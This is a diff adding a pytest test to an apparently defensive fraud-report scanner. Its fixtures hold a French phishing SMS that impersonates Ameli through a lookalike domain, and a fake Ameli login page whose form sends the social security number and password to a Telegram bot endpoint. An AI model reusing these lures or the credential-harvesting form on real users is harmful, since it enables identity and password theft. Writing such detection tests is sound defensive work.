@@ -99,3 +99,26 @@ def test_outlook_files_in_folders_are_scanned(tmp_path: Path) -> None:
     assert [Path(r["source"]).name for r in records] == ["seed.msg"]
     assert records[0]["level"] == "fraud"
     assert records[0]["kind"] == "email"
+
+
+def test_report_folders_mix_screenshots_pages_and_e_mails(tmp_path: Path) -> None:
+    """A fraud team's folder of reports: each kind is read by content, and an mbox is still split."""
+    pytest.importorskip("tesserocr", reason="extra 'image' not installed")
+    from media.screens import screenshot
+
+    (tmp_path / "capture.png").write_bytes(
+        screenshot("AMELI : votre carte Vitale expire, mettez-la à jour : https://ameli-servicepublique.com/info")
+    )
+    (tmp_path / "page.html").write_text(
+        "<!doctype html><html><head><title>ameli - Mon compte</title></head><body><h1>Mon compte ameli</h1>"
+        "<form action='https://api.telegram.org/bot1/sendMessage'><input name='nir'><input type='password'>"
+        "</form></body></html>",
+        encoding="utf-8",
+    )
+    (tmp_path / "notes.txt").write_text("not a report", encoding="utf-8")  # unknown suffix: left alone
+    records = {Path(r["source"]).name: r for r in scan([tmp_path])}
+    assert set(records) == {"capture.png", "page.html"}
+    assert records["capture.png"]["kind"] == "image"
+    assert records["capture.png"]["level"] == "fraud"
+    assert records["page.html"]["kind"] == "webpage"
+    assert "error" not in records["page.html"]
